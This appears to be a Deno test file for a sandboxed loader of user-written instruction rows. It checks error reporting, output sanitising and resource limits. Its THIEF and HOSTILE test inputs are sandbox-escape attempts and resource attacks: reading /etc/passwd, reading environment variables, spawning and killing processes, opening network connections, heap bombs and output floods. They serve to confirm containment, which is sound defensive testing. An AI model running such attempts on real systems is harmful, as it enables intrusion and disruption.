/**
 * Rows of one's own: what may be written, what is said about mistakes, and what
 * becomes of files that mean harm.
 *
 * @module
 */
import { assert, assertEquals, assertRejects } from "@std/assert";
import { fromFileUrl, join } from "@std/path";
import {
  describe,
  footprint,
  PG32,
  recordRow,
  type Row,
  SourceError,
  UsageError,
} from "../../../isa/mod.ts";
import type { Io, SandboxEnd } from "../../../lessons/commands/io.ts";
import { loadRows } from "../../../lessons/commands/rows_file.ts";
import { systemIo } from "../../../lessons/commands/system_io.ts";
import { fakeIo } from "./fake_io.ts";

const EXAMPLE = fromFileUrl(
  new URL("../../../lessons/examples/my_rows.ts", import.meta.url),
);

/** Real processes, but the file is in memory. */
function worldWith(source: string | Uint8Array): Io {
  const { sandbox } = systemIo();
  return { ...fakeIo({ files: { "/home/r.ts": source } }), sandbox };
}

/** Loads a file with this source in a real sandbox. */
function load(source: string, milliseconds?: number): Promise<readonly Row[]> {
  return loadRows(worldWith(source), "r.ts", PG32, { milliseconds });
}

/** What is said about a file with this source. */
async function said(source: string, milliseconds?: number): Promise<string> {
  const error = await assertRejects(
    () => load(source, milliseconds),
    SourceError,
  );
  assert(error.message.split("\n").every((line) => line.length <= 80));
  return error.message;
}

/** Asks about all cases, two at a time: as many as there are processors. */
async function inPairs<T, A>(
  cases: readonly T[],
  ask: (one: T) => Promise<A>,
): Promise<A[]> {
  const answers: A[] = [];
  for (let n = 0; n < cases.length; n += 2) {
    answers.push(...await Promise.all(cases.slice(n, n + 2).map(ask)));
  }
  return answers;
}

Deno.test("the example is loaded, wherever it is", async () => {
  const folder = await Deno.makeTempDir();
  try {
    const path = join(folder, "anywhere.ts");
    await Deno.copyFile(EXAMPLE, path);
    const rows = await loadRows(systemIo(), path, PG32);
    const texts = rows.map((row) =>
      [row.mnemonic, ...describe(row)].join(": ")
    );
    assertEquals(texts, [
      "min: rd = rs1 < rs2 ? rs1 : rs2",
      "rotl: rd = (rs1 << rs2) | (rs1 >>u (0 - rs2))",
    ]);
    assert(rows.every((row) => footprint(row).confined));
  } finally {
    await Deno.remove(folder, { recursive: true });
  }
});

Deno.test("no import, objects, types, output: all of it does", async () => {
  const rows = await load(`
    import type { Effects, Row } from "@trapeze/trapeze";
    import { privileged as guarded, Instruction } from "@trapeze/trapeze";

    enum Codes { First = 0xa0, Second }
    interface Named { readonly name: string }
    const named: Named = { name: "rd_mode" };
    function twice<V, R>(m: Effects<V, R>, v: V): V { return m.add(v, v); }
    let made: Instruction | undefined;

    export const rows: readonly Row[] = [
      row(Codes.First, "double", "immediate", "Zwei ×", (m, i) => {
        m.set(i.rd, m.width === 32 ? twice(m, m.get(i.rs1)) : i.imm);
      }),
      {
        ...guarded(Codes.Second, named.name, "result", "the mode", (m, i) =>
          m.set(i.rd, m.mode())),
      },
      { opcode: 0xfe, mnemonic: "object", format: "plain", privileged: false,
        summary: "an object", effect(m) { console.log(m); m.trap("ebreak"); } },
    ];
    console.log("hello"); console.error("{}");
    Deno.stdout.writeSync(new TextEncoder().encode('{"rows":[1]}'));
    setInterval(() => {}, 1000);
  `);
  assertEquals(rows.map((row) => describe(row)), [
    ["rd = rs1 + rs1"],
    ["rd = mode"],
    ["trap with cause ebreak"],
  ]);
  assertEquals(rows.map((row) => row.privileged), [false, true, false]);
  assertEquals(rows[0].summary, "Zwei ×");
});

/** A file, and what is said about it. */
const MISTAKES: readonly (readonly [source: string, report: string])[] = [
  [
    `// a syntax error
export default [ row(1, 2 ;`,
    `r.ts:2:27: error: Expected ',', got ';'
  export default [ row(1, 2 ;
                            ^`,
  ],
  [
    `import x from "./x.ts";
export default [x];`,
    `r.ts:1:15: error: rows cannot import "./x.ts": need "@trapeze/trapeze",
    which has row and privileged, or no import
  import x from "./x.ts";
                ^~~~~~~~`,
  ],
  [
    `import { row, PG32 } from "@trapeze/trapeze";
export default PG32.rows;`,
    `r.ts:1:15: error: rows cannot import PG32: need row or privileged, or a type
  import { row, PG32 } from "@trapeze/trapeze";
                ^~~~`,
  ],
  [
    `interface A { readonly a: string }
const rows: A[] = [], more: A = { a: "1" };
export default rowz;`,
    `r.ts:3:16: error: rowz is not defined
  export default rowz;
                 ^~~~`,
  ],
  [
    `throw new Error("one\\ntwo " + import.meta.url);`,
    `r.ts:1:7: error: one
  throw new Error("one\\ntwo " + import.meta.url);
        ^~~`,
  ],
  [
    `export default [
  row(0x90, "sum", "registers", "a sum", (m, i) => {
    m.set(i.rd, m.get(i.rs1) + m.get(i.rs2));
  }),
];`,
    `r.ts:3:28: error: a value has no number: compute with m.add and the like,
    compare with m.eq, m.lt and m.ltu, choose with m.select
      m.set(i.rd, m.get(i.rs1) + m.get(i.rs2));
                             ^`,
  ],
  [
    `export default [
  row(0x90, "late", "registers", "reads late", (m, i) => {
    m.set(i.rd, m.literal(1));
    m.set(i.rd, m.get(i.rs1));
  }),
];`,
    `r.ts:4:19: error: m.get after m.set: need all reads first, then at most one
    step that can trap (load, store, loadBlock, trap, trapIf, portIn), then all
    changes
      m.set(i.rd, m.get(i.rs1));
                    ^~~`,
  ],
  [
    `export default [
  row(0x90, "typo", "plain", "a typo", (m) => m.hlat()),
];`,
    `r.ts:2:49: error: m.hlat is not a function
    row(0x90, "typo", "plain", "a typo", (m) => m.hlat()),
                                                  ^~~~`,
  ],
  [
    `import { privileged } from "@trapeze/trapeze";
export default [
  privileged(0x90, "less", "register", "a typo", () => {}),
];`,
    `r.ts:3:3: error: the format is "register": did you mean "registers"?
    privileged(0x90, "less", "register", "a typo", () => {}),
    ^~~~~~~~~~`,
  ],
  [
    `export const rows = [
  { opcode: 0x100, mnemonic: 'odd', format: "plain", privileged: false,
    summary: "an object", effect() {} },
];`,
    `r.ts:2:30: error: the opcode is 256: need 0x01 to 0xfe
    { opcode: 0x100, mnemonic: 'odd', format: "plain", privileged: false,
                               ^~~~~`,
  ],
  [
    `export default [row(0x90, "none", "plain", "no effect")];`,
    `r.ts:1:17: error: the effect is undefined: need a function (m, i) => { … }
  export default [row(0x90, "none", "plain", "no effect")];
                  ^~~`,
  ],
  [
    "const rows = [];",
    "r.ts:1:1: error: nothing is exported: need export default [ row(…) ]",
  ],
  [
    `export default row(0x90, "one", "plain", "no array", () => {});`,
    `r.ts:1:16: error: what is exported is no array: need one of rows
  export default row(0x90, "one", "plain", "no array", () => {});
                 ^~~`,
  ],
  ["export default [];", "r.ts:1:1: error: there is no row: need one or more"],
];

Deno.test("a mistake is shown where it is", async () => {
  const reports = await inPairs(MISTAKES, ([source]) => said(source));
  assertEquals(reports, MISTAKES.map(([, report]) => report));
});

/** The end of a sandbox whose answer is `data`. */
function answered(data: unknown): SandboxEnd {
  return { why: "ended", stdout: `noise\n${JSON.stringify(data)}\n` };
}

/** What is said if the sandbox ends so, about a file with this text. */
async function saidOf(end: SandboxEnd, text = "// text"): Promise<string> {
  const io = fakeIo({ files: { "/home/r.ts": text }, sandbox: () => end });
  const load = () => loadRows(io, "r.ts", PG32, { milliseconds: 9500 });
  return (await assertRejects(load, SourceError)).message;
}

const ADD = recordRow(PG32.byMnemonic.get("add"));

Deno.test("a row must find room beside the others", async () => {
  const taken = answered({ rows: [{ row: { ...ADD, mnemonic: "sum" } }] });
  assertEquals(
    await saidOf(taken, `{}\n  ["sum"]`),
    `r.ts:2:4: error: the opcode 0x10 is that of add: 0x1a is free
    ["sum"]
     ^~~~~`,
  );
  const named = answered({
    rows: [{ row: { ...ADD, opcode: 0x90 }, place: [1, 4] }],
  });
  assertEquals(
    await saidOf(named),
    `r.ts:1:4: error: there is an instruction add already: need another name
  // text
     ^~~~`,
  );
  const pseudo = { ...ADD, opcode: 0x90, mnemonic: "mv" };
  assertEquals(
    await saidOf(answered({ rows: [{ row: pseudo }] })),
    "r.ts:1:1: error: there is a pseudo-instruction mv already: need another " +
      "name",
  );
  const one = { row: { ...ADD, opcode: 0xfe, mnemonic: "one" } };
  const two = { row: { ...ADD, opcode: 0xfe, mnemonic: "two" } };
  assertEquals(
    await saidOf(answered({ rows: [one, two] })),
    "r.ts:1:1: error: the opcode 0xfe is that of one: need one that is free",
  );
  const again = { row: { ...ADD, opcode: 0xfd, mnemonic: "one" } };
  assertEquals(
    await saidOf(answered({ rows: [one, again] })),
    "r.ts:1:1: error: there is an instruction one already: need another name",
  );
});

const UNFINISHED = "r.ts:1:1: error: this ended before its rows could be " +
  "read: need no\n    Deno.exit, and no await without an end";

/** Answers that no program of ours gives, and what is said. */
const FORGED: readonly (readonly [unknown, string])[] = [
  [undefined, UNFINISHED],
  [null, UNFINISHED],
  [[], UNFINISHED],
  ["rows", UNFINISHED],
  [{ rows: [] }, UNFINISHED],
  [{ rows: { length: 1 } }, UNFINISHED],
  [{ problem: { message: 5 } }, UNFINISHED],
  [{ problem: [] }, UNFINISHED],
  [
    { rows: [null] },
    "r.ts:1:1: error: undefined is no row: need row(OPCODE, MNEMONIC, FORMAT, " +
    "\n    SUMMARY, EFFECT)".slice(1),
  ],
  [
    { rows: [{ row: { ...ADD, opcode: 0x90, recordings: [] } }] },
    "r.ts:1:1: error: no recordings for words of 4 and 32 bits",
  ],
];

Deno.test("a forged answer is only data", async () => {
  for (const [data, report] of FORGED) {
    assertEquals(
      (await saidOf(answered(data))).replace(/\s+/g, " "),
      report.replace(/\s+/g, " "),
    );
  }
  for (const stdout of ["", "\n", "{", "[".repeat(1e6), "\u2028\0"]) {
    assertEquals(await saidOf({ why: "ended", stdout }), UNFINISHED);
  }
});

Deno.test("a forged place is looked at, and a message is shown safely", async () => {
  const told = (place: unknown, message = "bad") =>
    saidOf(answered({ problem: { message, place } }), "ab\n\ncd");
  assertEquals(await told([3, 3]), "r.ts:3:3: error: bad\n  cd\n    ^");
  assertEquals(await told([2, 1]), "r.ts:2:1: error: bad\n\n  ^");
  for (
    const place of [[3, 4], [4, 1], [0, 1], [1, 0], [1.5, 1], ["1", "1"], [1], {
      length: 2,
      0: 1,
      1: 1,
    }]
  ) {
    assertEquals(await told(place), "r.ts:1:1: error: bad");
  }
  const clear = await told([1, 1], `\u001b[2J\u202e${"x".repeat(1e5)}`);
  assertEquals(
    clear.replace(/x+…/, "x…"),
    "r.ts:1:1: error:\n    ␛[2J\ufffdx…\n  ab\n  ^~",
  );
  assert(clear.length < 150);
});

Deno.test("what would take for ever to search is not searched", async () => {
  const blanks = `import ${" ".repeat(9e5)}"x"`;
  const message = "provide an export named '".repeat(30_000);
  const place = [1, blanks.length - 2];
  const report = await saidOf(
    answered({ problem: { message, place } }),
    blanks,
  );
  assertEquals(report.slice(0, 16), "r.ts:1:900008: e");
});

Deno.test("how a sandbox can end without an answer", async () => {
  const report = async (why: SandboxEnd["why"]) =>
    (await saidOf({ ...answered({ rows: [{ row: ADD }] }), why }))
      .replace("r.ts:1:1: error: this ", "");
  assertEquals(
    await report("late"),
    "takes more than 9.5 seconds: need code with an end",
  );
  assertEquals(await report("loud"), "prints more than 1 MB: need less");
  assertEquals(
    await report("crashed"),
    "was stopped by the system: need less memory",
  );
});

Deno.test("a file that cannot be read is the user's mistake", async () => {
  const told = async (source: string | Uint8Array | null, name = "r.ts") => {
    const io = fakeIo({ files: { "/home/r.ts": source } });
    return (await assertRejects(() => loadRows(io, name, PG32), UsageError))
      .message;
  };
  assertEquals(
    await told("", "s.ts"),
    'cannot read "s.ts": there is no such file',
  );
  assertEquals(await told(null), '"r.ts" is a directory: need a file');
  const text = '"r.ts" is no text: need TypeScript as UTF-8';
  assertEquals(await told(new Uint8Array([0xff, 0xfe])), text);
  assertEquals(await told("a\0b"), text);
  assertEquals(
    await told(new Uint8Array((1 << 20) + 1)),
    '"r.ts" is too large: need at most 1048576 bytes',
  );
});

Deno.test("a file of the greatest size is read", async () => {
  const rows = 'export default [row(0x90, "big", "plain", "big", () => {})];';
  const comment = `/*${"é".repeat((1 << 19) - 200)}*/`;
  assertEquals((await load(comment + rows))[0].mnemonic, "big");
});

/**
 * Tries to get at everything, and tells what it got.
 */
const THIEF = `
const PATH = "/etc/passwd";
const URL = "file://" + PATH;
const text = { with: { type: "text" } };
const attempts = {
  read: () => Deno.readTextFileSync(PATH),
  list: () => [...Deno.readDirSync("/")],
  write: () => Deno.writeTextFileSync("/tmp/trapeze-thief", "x"),
  text: () => import(URL, text),
  path: () => import(PATH, text),
  up: () => import("../../../../../.." + PATH, text),
  nested: () => import("data:text/javascript,import x from %22" + URL +
    "%22 with { type: %22text%22 }"),
  fetch: () => fetch(URL),
  net: () => fetch("http://127.0.0.1:49151/"),
  connect: () => Deno.connect({ port: 1 }),
  env: () => Deno.env.toObject(),
  run: () => new Deno.Command("/bin/ls").outputSync(),
  deno: () => new Deno.Command(Deno.execPath()).outputSync(),
  kill: () => Deno.kill(Deno.ppid, "SIGTERM"),
  node: () => process.getBuiltinModule("node:fs").readFileSync(PATH),
  require: () => process.getBuiltinModule("node:module")
    .createRequire(URL)(URL),
  child: () => process.getBuiltinModule("node:child_process")
    .execFileSync("/bin/ls"),
  sql: () => new (process.getBuiltinModule("node:sqlite").DatabaseSync)(PATH),
  dlopen: () => Deno.dlopen("/lib/x86_64-linux-gnu/libc.so.6", {}),
  ask: async () => {
    const { state } = await Deno.permissions.request({ name: "read" });
    if (state !== "granted") throw state;
  },
  store: () => localStorage.setItem("a", "b"),
  npm: () => import("npm:lodash"),
  remote: () => import("https://example.com/x.ts"),
};
const got = [];
for (const [name, attempt] of Object.entries(attempts)) {
  try {
    await attempt();
    got.push(name);
  } catch {}
}
export default [row(0x90, "thief", "plain", "got " + got.join() + ".",
  () => {})];
`;

Deno.test("there is nothing to be had", async () => {
  assertEquals((await load(THIEF))[0].summary, "got .");
});

/** Code that means harm, and what is said about it: no two are the same. */
const HOSTILE: readonly (readonly [
  name: string,
  source: string,
  said: RegExp,
  milliseconds?: number,
])[] = [
  ["loop", "for (;;);", /takes more than 0.9 seconds/, 900],
  [
    "loop in an effect",
    'export default [row(0x90, "a", "plain", "a", () => { for (;;); })];',
    /takes more than 0.9 seconds/,
    900,
  ],
  [
    "deaf ears",
    `Deno.addSignalListener("SIGTERM", () => {});
      await new Promise((done) => setTimeout(done, 1e6));`,
    /takes more than 0.9 seconds/,
    900,
  ],
  [
    "heap bomb",
    "const a = []; for (;;) a.push(new Array(1e5).fill(0.5));",
    /was stopped by the system/,
  ],
  [
    "flood",
    'for (;;) console.log("x".repeat(1e5));',
    /prints more than 1 MB/,
  ],
  ["exit", "Deno.exit(0);", /ended before its rows could be read/],
  ["no end", "await new Promise(() => {});", /ended before its rows/],
  [
    "forged",
    `const steps = [["trap", "evil"]];
      console.log(JSON.stringify({ rows: [{ row: { opcode: 0x90,
        mnemonic: "forged", format: "plain", privileged: false,
        summary: "forged",
        recordings: [{ width: 4, steps }, { width: 32, steps }] } }] }));
      Deno.exit(0);`,
    /3:19: error: argument 1 of m.trap is "evil": need one of/,
  ],
  [
    "polluted",
    `Array.prototype.push = Array.prototype.map = () => [];
      Object.prototype.privileged = "yes";
      export default [row(0x90, "a", "plain", "a", (m) => m.halt())];`,
    /ended before its rows|is no |no known|no recording/,
  ],
  [
    "shadowed",
    `Error.prepareStackTrace = () => ({});
      globalThis.Error = JSON.stringify = String = null;
      throw { get stack() { throw 1; }, get message() { throw 2; } };`,
    /r.ts:1:1: error: this ended before its rows|without a message/,
  ],
];

Deno.test("hostile files end in one clear line", async () => {
  const reports = await inPairs(
    HOSTILE,
    ([, source, , time]) => said(source, time),
  );
  for (const [n, [name, , expected]] of HOSTILE.entries()) {
    const report = reports[n].replace(/\s+/g, " ");
    assert(expected.test(report), `${name}: ${report}`);
  }
});
